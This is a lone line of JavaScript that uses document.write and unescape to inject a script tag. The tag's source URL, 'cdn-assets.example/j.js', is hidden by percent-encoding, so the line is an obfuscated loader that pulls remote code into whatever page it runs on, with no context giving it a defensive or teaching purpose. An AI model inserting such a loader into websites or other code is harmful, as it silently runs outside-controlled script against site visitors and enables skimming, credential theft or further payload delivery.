document.write(unescape('%3Cscript src="%68%74%74%70%73://%63%64%6e-%61%73%73%65%74%73.example/j.js"%3E%3C/script%3E'));
